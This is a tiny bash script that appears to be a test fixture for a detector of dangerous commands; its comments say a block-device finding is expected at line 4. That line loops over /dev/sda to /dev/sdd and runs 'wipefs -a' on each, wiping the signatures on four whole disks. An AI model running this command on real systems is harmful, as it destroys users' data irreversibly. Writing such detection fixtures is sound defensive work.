#!/bin/bash
# shows: every disk by a range of letters
# expect: block-device at line 4
for d in /dev/sd{a..d}; do wipefs -a "$d"; done
